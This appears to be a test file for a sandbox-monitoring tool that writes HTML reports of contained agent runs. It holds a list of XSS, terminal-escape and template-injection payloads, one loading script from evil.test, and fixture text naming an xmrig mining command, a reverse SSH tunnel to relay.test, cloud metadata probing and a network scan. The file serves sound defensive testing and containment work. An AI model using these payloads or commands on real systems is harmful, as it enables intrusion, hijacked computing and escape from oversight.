"""The report: true, complete, self-contained, and not to be driven by what a guest named."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vallum.cli.conversation import print_conversations
from vallum.core.events import AnyEvent, Record
from vallum.core.messages import Reasoning, Text, ToolCall
from vallum.record.chapters import RunStory
from vallum.record.ledger import Ledger
from vallum.record.reader import read_records
from vallum.record.story import fold
from vallum.record.traffic import Span
from vallum.record.trajectory import EpisodeTrajectories
from vallum.record.trajectory_fold import fold_trajectories
from vallum.record.verify import verify
from vallum.testing.conversations import Conversations, call, say
from vallum.testing.conversations import tell as tell_result
from vallum.testing.incident import Tale, tell_incident
from vallum.web.report import grow_tree, render_report
from vallum.web.timeline import choose_ticks, draw_timeline

EVIL = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></style></svg><script src=//evil.test/x.js></script>",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202egpj.exe\u2066",
    "{{ 7*7 }}{% raw %}${7*7}",
    "javascript:alert(1)",
    "&lt;script&gt;&#0;\x00\ufeff",
    "]]><!--<script>",
    "x" * 100_000,
)


class Page(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def tell(events: list[AnyEvent]) -> RunStory:
    return fold(Record(id=number, event=event) for number, event in enumerate(events))


def check_harmless(html: str) -> Page:
    page = Page(html)
    assert set(page.tags) <= {
        "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "div", "span", "b", "p", "h1", "h2", "h3", "dl", "dt",
        "dd", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "br", "details", "summary", "svg", "g", "path", "rect", "line",
        "circle", "text",
    }  # fmt: skip
    names = {name for name, _ in page.attributes}
    assert not {
        name
        for name in names
        if name.startswith("on") or name in ("href", "src", "srcset", "action", "xlink:href", "data", "srcdoc")
    }
    assert all("url(" not in (value or "") for _, value in page.attributes)
    assert "url(" not in html.split("</style>")[0]
    assert "@import" not in html
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]", html)
    return page


def test_it_tells_the_incident(tmp_path: Path) -> None:
    with Ledger.create(tmp_path, "r-1") as ledger:
        ledger.append_many(tell_incident("r-1"))
    verified = verify(tmp_path / "r-1")
    html = render_report(fold(read_records(tmp_path / "r-1")), verified)
    page = check_harmless(html)
    text = " ".join(" ".join(page.text).split())
    for expected in (
        "271 attempts to get out, not one byte delivered.",
        "6 of 9 steps tried what no rule grants",
        "xmrig -o pool.minexmr.test:3333 -u 48edfHu7",
        "254 addresses in 10.0.8.0/24",
        "ssh -N -R 2222:localhost:22 root@relay.test",
        "169.254.169.254:80",
        "metadata",
        "after it closed",
        "left running by step 6",
        "T1496.001",
        "attack.mitre.org/techniques/T1496/001",
        "mirror.packages.test:80",
        "47.1 KiB",
        "intact",
        verified.head,
        "missing",
        "kill step",
    ):
        assert expected in text, expected
    assert ("http-equiv", "Content-Security-Policy") in page.attributes
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" in html


def evil_events(evil: str) -> list[AnyEvent]:
    tale = Tale("r-evil", episode=evil)
    call = tale.open(0, [evil, "-c", evil])
    process = tale.start(0, [evil, evil])
    child = tale.start(0, ["sh", evil], ppid=process.pid)
    tale.pass_ms(5)
    denied = tale.deny(0, child, evil, 80, evil, evil, host=evil, protocol="http", first_bytes=evil)
    tale.ask(0, process, evil, verdict="deny", answers=[evil], rule=evil)
    tale.permit(0, process, "192.0.2.1", 80, evil, out=1, inward=2, ms=3)
    tale.find(0, evil, evil, "high", [evil], evil, [denied])
    tale.end(0, process)
    tale.close(0, call, 0, 1)
    return tale.events


def test_no_payload_gets_through() -> None:
    for evil in EVIL:
        page = check_harmless(render_report(tell(evil_events(evil))))
        assert not any("alert(1)" in (value or "") and name not in ("aria-label",) for name, value in page.attributes)
        assert "49" not in "".join(page.text) or "7*7" not in evil or "{{ 7*7 }}" in "".join(page.text)


@settings(max_examples=40, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=80))
def test_no_text_gets_through(evil: str) -> None:
    check_harmless(render_report(tell(evil_events(evil))))


def test_empty_and_unfinished_runs_have_a_report() -> None:
    check_harmless(render_report(tell([])))
    events = tell_incident()
    for length in range(1, len(events), 9):
        check_harmless(render_report(tell(events[:length])))


def test_very_many_steps_stay_readable() -> None:
    tale = Tale("r-long")
    for step in range(1500):
        began = tale.now_ns
        call = tale.open(step, ["true", str(step)])
        tale.pass_ms(3)
        if step == 1234:
            tale.deny(step, tale.start(step, ["nc"]), "192.0.2.9", 9, "default-deny", "no")
        tale.close(step, call, began, 0)
    story = tell(tale.events)
    timeline = draw_timeline(story.episodes["e-0"])
    assert timeline.omitted == 1380
    assert any(lane.label == "1234" for lane in timeline.lanes)
    html = render_report(story)
    check_harmless(html)
    assert len(html) < 2_000_000


def test_shapes_stay_inside(tmp_path: Path) -> None:
    timeline = draw_timeline(tell(tell_incident()).episodes["e-0"])
    for lane in timeline.lanes:
        for bar in [lane.span, *lane.commands, *lane.allowed, *([lane.tail] if lane.tail else [])]:
            assert timeline.left <= bar.x <= bar.x + bar.width <= timeline.width
        for mark in lane.denied + lane.findings:
            assert timeline.left <= mark.x <= mark.until <= timeline.width
    assert sum(mark.count for lane in timeline.lanes for mark in lane.denied) == 271


@given(st.integers(1, 10**18))
def test_ticks_are_few_and_inside(length_ns: int) -> None:
    ticks = choose_ticks(length_ns)
    assert ticks[0] == 0
    assert ticks[-1] <= length_ns
    assert len(ticks) <= 9
    assert length_ns < 10 or len(ticks) >= 2


def test_the_tree_puts_children_below_their_parents() -> None:
    tale = Tale("r")
    root = tale.start(0, ["root"])
    left = tale.start(0, ["left"], ppid=root.pid)
    right = tale.start(0, ["right"], ppid=root.pid)
    deep = tale.start(0, ["deep"], ppid=left.pid)
    tale.start(0, ["deeper"], ppid=deep.pid)
    tale.start(0, ["last"], ppid=right.pid)
    processes = tell(tale.events).episodes["e-0"].steps[0].processes
    assert [(row.depth, row.process.process.argv[0]) for row in grow_tree(processes)] == [
        (0, "root"), (1, "left"), (2, "deep"), (3, "deeper"), (1, "right"), (2, "last"),
    ]  # fmt: skip
    assert isinstance(processes[0].span, Span)


def talk(words: str) -> Conversations:
    made = Conversations()
    asked = made.converse(
        [say("system", words), say("user", words)],
        Reasoning(words),
        Text(words),
        call("bash", 1, command=words),
        ToolCall(words, words, words),
    )
    made.accuse(0, made.refuse(0, words))
    made.kill(0, 0)
    made.converse([*asked, tell_result(1, words)], Text(words))
    return made


def test_a_conversation_stands_beside_what_the_kernel_saw() -> None:
    made = talk("count the beans")
    page = check_harmless(render_report(*fold_and_verify(made)))
    text = " ".join(" ".join(page.text).split())
    assert "Conversation" in text
    assert "bash: count the beans" in text
    turn = text[text.index("bash: count the beans") :]
    assert turn.index("steps 0, 1") < turn.index("default-deny") < turn.index("Mining pool asked for")
    assert "Containment: kill step" in text


def fold_and_verify(made: Conversations) -> tuple[RunStory, None, list[EpisodeTrajectories]]:
    story, episodes = fold_trajectories(made.records())
    return story, None, episodes


def test_no_payload_gets_through_a_conversation(capsys: pytest.CaptureFixture[str]) -> None:
    for evil in EVIL:
        story, _, episodes = fold_and_verify(talk(evil))
        html = render_report(story, None, episodes)
        page = check_harmless(html)
        assert not any("alert(1)" in (value or "") and name != "aria-label" for name, value in page.attributes)
        assert len(html) < 300_000
        print_conversations(episodes)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", capsys.readouterr().out)


def test_a_long_conversation_is_cut_and_what_was_refused_stays() -> None:
    made, history = Conversations(), [say("user", "x")]
    for number in range(240):
        history = made.converse(history, call("bash", number, command="y" * 500))
        if number == 120:
            made.refuse(number)
        history.append(tell_result(number, "z" * 9000))
    html = render_report(*fold_and_verify(made))
    assert "quiet turns in between" in html
    assert "pool.test:3333" in html[html.index("What the kernel saw") :]
    assert len(html) < 2_500_000
